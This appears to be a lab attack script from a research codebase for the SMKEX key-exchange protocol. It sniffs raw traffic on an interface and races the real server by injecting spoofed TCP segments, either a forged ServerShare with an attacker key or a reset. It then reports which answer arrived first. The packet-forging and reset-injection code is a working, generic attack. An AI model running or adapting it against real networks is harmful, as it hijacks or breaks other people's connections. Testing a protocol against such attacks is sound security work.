"""A man on the side of path 0: it reads what passes the carrier, and sends packets of its own, but stops none.

On the carrier, towards the phone. As soon as the client's first message passes it sends, in the edge's name and with
the sequence numbers that it has read, either a ServerShare of its own or a reset, to be there before the edge's answer.
It says `a record CHANGED` when it was: which of the two came first is seen on the wire, not guessed.
"""

import argparse
import socket
import struct
import sys
from dataclasses import dataclass
from ipaddress import ip_address

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

from balancer.model.reference.checksum import checksum
from lab.attack.impersonation import forged_identity
from smkex.core.errors import SmkexError
from smkex.core.handshake.config import ServerConfig
from smkex.core.handshake.tls import FIRST_BYTE
from smkex.core.keys.key_agreement import answer_share
from smkex.core.wire.frame import FrameType
from smkex.core.wire.frame_reader import FrameReader
from smkex.core.wire.messages import ClientShare, Endpoint, Mode, Observation, ServerShare

IN_TIME = "a record CHANGED"
ALL_PROTOCOLS = 3  # linux/if_ether.h ETH_P_ALL
ETHERNET, IPV4, TCP = 14, 0x0800, 6
RST, PSH_ACK, RST_ACK = 0x04, 0x18, 0x14
WINDOW = 512


@dataclass(frozen=True, slots=True)
class Segment:
    """What is read of one TCP segment."""

    ethernet: bytes
    source: bytes
    target: bytes
    ports: bytes
    sequence: int
    acknowledged: int
    flags: int
    data: bytes

    @classmethod
    def read(cls, frame: bytes) -> "Segment | None":
        """None for what is no TCP over IPv4."""
        if frame[12:14] != struct.pack("!H", IPV4) or len(frame) < ETHERNET + 40 or frame[23] != TCP:
            return None
        head = ETHERNET + (frame[ETHERNET] & 15) * 4
        body = head + (frame[head + 12] >> 4) * 4
        end = ETHERNET + int(struct.unpack_from("!H", frame, ETHERNET + 2)[0])
        sequence, acknowledged = struct.unpack_from("!II", frame, head + 4)
        ports = frame[head : head + 4]
        flags = frame[head + 13]
        return cls(
            frame[:12], frame[26:30], frame[30:34], ports, sequence, acknowledged, flags, frame[body:end]
        )

    def answer(self, flags: int, data: bytes) -> bytes:
        """The frame of a segment back, as if from the other end, that is next in order."""
        ports = self.ports[2:] + self.ports[:2]
        acknowledged = (self.sequence + len(self.data)) & 0xFFFFFFFF
        tcp = (
            ports
            + struct.pack("!IIBBHHH", self.acknowledged, acknowledged, 5 << 4, flags, WINDOW, 0, 0)
            + data
        )
        addresses = self.target + self.source
        pseudo = addresses + struct.pack("!HH", TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, TCP, 0) + addresses
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return self.ethernet[6:] + self.ethernet[:6] + struct.pack("!H", IPV4) + ip + tcp


def share_for(segment: Segment, identity: ServerConfig, own: X25519PrivateKey) -> bytes | None:
    """A ServerShare of the attacker's for the ClientShare in a segment; None where there is none."""
    reader = FrameReader()
    reader.feed(segment.data)
    try:
        offered = next((ClientShare.parse(frame) for _, frame in reader.frames()), None)
    except SmkexError:
        return None
    if offered is None or identity.long_term is None:
        return None
    mode = Mode.TOFU if Mode.TOFU in offered.modes else Mode.OPPORTUNISTIC
    certificate = identity.long_term.certificate.encode() if mode is Mode.TOFU else b""
    port = int.from_bytes(segment.ports[:2], "big")
    seen = Observation(identity.edge_id, Endpoint(ip_address(segment.source), port))
    aead = identity.aeads[0]
    group, offer = next((group, dict(offered.shares)[group]) for group in identity.groups)
    share, _ = answer_share(group, offer, own)
    return ServerShare.build(
        mode, aead, identity.edge_id, identity.locator, seen, group, share, certificate
    ).frame


def main() -> None:
    parser = argparse.ArgumentParser(prog="lab.attack.on_the_side")
    parser.add_argument("spoof", choices=["share", "reset"])
    parser.add_argument("--interface", required=True)
    options = parser.parse_args()
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL_PROTOCOLS)) as tap,
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as spoofing,
    ):
        for each in (tap, spoofing):
            each.bind((options.interface, ALL_PROTOCOLS if each is tap else 0))
        answer_first_messages(options.spoof, tap, spoofing)


def answer_first_messages(spoof: str, tap: socket.socket, spoofing: socket.socket) -> None:
    """Answer each first message; then look which answer passed first."""
    identity, own = forged_identity(1, None), X25519PrivateKey.generate()
    raced: dict[bytes, tuple[int, bytes]] = {}  # by the client's ports: where the answer begins, and ours
    print("ready", file=sys.stderr, flush=True)
    while True:
        frame, (_, _, kind, *_) = tap.recvfrom(1 << 17)
        segment = Segment.read(frame)
        if segment is None:
            continue
        if kind == socket.PACKET_OUTGOING:
            note_first_answer(raced, segment)
        elif segment.data and segment.data[0] in (FrameType.CLIENT_SHARE, FIRST_BYTE):
            answer = share_for(segment, identity, own) if spoof == "share" else b""
            if answer is not None:
                raced[segment.ports] = segment.acknowledged, answer
                spoofing.send(segment.answer(PSH_ACK if answer else RST_ACK, answer))


def note_first_answer(raced: dict[bytes, tuple[int, bytes]], segment: Segment) -> None:
    ports = segment.ports[2:] + segment.ports[:2]
    if ports not in raced or not (segment.data or segment.flags & RST):
        return
    begins, ours = raced[ports]
    if segment.sequence == begins:
        del raced[ports]
        print(IN_TIME if segment.data == ours else "too late", file=sys.stderr, flush=True)


if __name__ == "__main__":
    main()
